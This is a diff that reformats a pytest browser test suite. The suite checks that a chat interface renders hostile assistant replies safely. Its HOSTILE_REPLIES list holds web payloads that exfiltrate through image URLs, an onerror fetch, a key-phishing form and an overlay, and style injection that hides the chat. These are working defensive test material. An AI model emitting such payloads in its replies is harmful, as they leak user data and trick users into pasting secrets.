@@ -60,7 +60,7 @@ HOSTILE_REPLIES = {
     "markdown image": f"Here you go ![chart]({E}/md-image?q=secret)",
     "reference image": f"![x][pic]\n\n[pic]: {E}/ref-image",
     "img tag": f'<img src="{E}/img">',
-    "img onerror": f'<img src=x onerror="fetch(\'{E}/onerror\')">',
+    "img onerror": f"<img src=x onerror=\"fetch('{E}/onerror')\">",
     "lazy img": f'<img loading="lazy" src="{E}/lazy">',
     "srcset": f'<img srcset="{E}/srcset 1x, {E}/srcset2 2x">',
     "picture": f'<picture><source srcset="{E}/picture"><img src="{E}/picture-img"></picture>',
@@ -72,15 +72,19 @@ HOSTILE_REPLIES = {
     "table background": f'<table background="{E}/table-bg"><tr><td>cell</td></tr></table>',
     "inline style url": f'<div style="background-image:url({E}/style-url)">hello</div>',
     "input image": f'<input type="image" src="{E}/input-image">',
-    "phishing form": (f'<form action="{E}/form" method="post">Session expired: paste your key '
-                      '<input name="key" autofocus><button>Continue</button></form>'),
+    "phishing form": (
+        f'<form action="{E}/form" method="post">Session expired: paste your key '
+        '<input name="key" autofocus><button>Continue</button></form>'
+    ),
     "button formaction": f'<button formaction="{E}/formaction">Click</button>',
     # Text first: DOMPurify drops a <style> that opens the fragment, but not a later one.
     "style hides the chat": "Sure. <style>#composer, header { display: none !important }</style>",
     "style import": f"Sure. <style>@import url({E}/import.css);</style>",
     "style background": f"Sure. <style>body {{ background: url({E}/body-bg) }}</style>",
-    "fixed overlay": ('<div style="position:fixed;inset:0;z-index:9999;background:#fff">'
-                      'Session expired. Paste your API key below.</div>'),
+    "fixed overlay": (
+        '<div style="position:fixed;inset:0;z-index:9999;background:#fff">'
+        "Session expired. Paste your API key below.</div>"
+    ),
     "link stylesheet": f'<link rel="stylesheet" href="{E}/link.css">',
     "link prefetch": f'<link rel="prefetch" href="{E}/prefetch">',
     "meta refresh": f'<meta http-equiv="refresh" content="0;url={E}/meta-refresh">',
@@ -99,9 +103,11 @@ HOSTILE_REPLIES = {
     "data-uri svg image": "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnLz4=)",
 }
 
-FORBIDDEN = ("form, input, button, textarea, select, option, style, link, meta, base, img, picture, "
-             "source, video, audio, track, iframe, frame, object, embed, svg, math, canvas, script, "
-             "dialog, details, [style], [class], [id]")
+FORBIDDEN = (
+    "form, input, button, textarea, select, option, style, link, meta, base, img, picture, "
+    "source, video, audio, track, iframe, frame, object, embed, svg, math, canvas, script, "
+    "dialog, details, [style], [class], [id]"
+)
 
 CHECK_PAGE = """(forbidden) => {
     const body = document.querySelector('.assistant .body');
@@ -140,7 +146,8 @@ def chat(page, text, replies_before):
 
 @pytest.mark.parametrize("name", list(HOSTILE_REPLIES))
 def test_a_hostile_reply_fetches_nothing_injects_nothing_and_leaves_the_page_usable(
-        name, browser, live_server, listener, fake):  # noqa: F811
+    name, browser, live_server, listener, fake
+):  # noqa: F811
     listener.hits.clear()
     fake.reply = HOSTILE_REPLIES[name].replace(E, listener.origin)
     context, page, errors = open_page(browser, live_server.url)
@@ -188,8 +195,10 @@ def test_the_flow_inspector_shows_hostile_replies_as_text(browser, live_server, 
 
 
 def test_raw_html_shows_as_text_and_markdown_still_renders(browser, live_server, listener, fake):  # noqa: F811
-    fake.reply = (f"**bold** and `<b>code</b>` and <b>raw</b>\n\n- item\n\n"
-                  f"[docs]({listener.origin}/docs) <https://example.org/page>")
+    fake.reply = (
+        f"**bold** and `<b>code</b>` and <b>raw</b>\n\n- item\n\n"
+        f"[docs]({listener.origin}/docs) <https://example.org/page>"
+    )
     context, page, errors = open_page(browser, live_server.url)
     try:
         chat(page, "format", 0)
@@ -211,8 +220,7 @@ def test_raw_html_shows_as_text_and_markdown_still_renders(browser, live_server,
         context.close()
 
 
-def test_a_reply_that_breaks_the_markdown_parser_shows_as_text_and_the_page_recovers(
-        browser, live_server, fake):  # noqa: F811
+def test_a_reply_that_breaks_the_markdown_parser_shows_as_text_and_the_page_recovers(browser, live_server, fake):  # noqa: F811
     fake.reply = ">" * 8000 + " deeply nested"  # marked overflows its stack on this
     context, page, errors = open_page(browser, live_server.url)
     try:
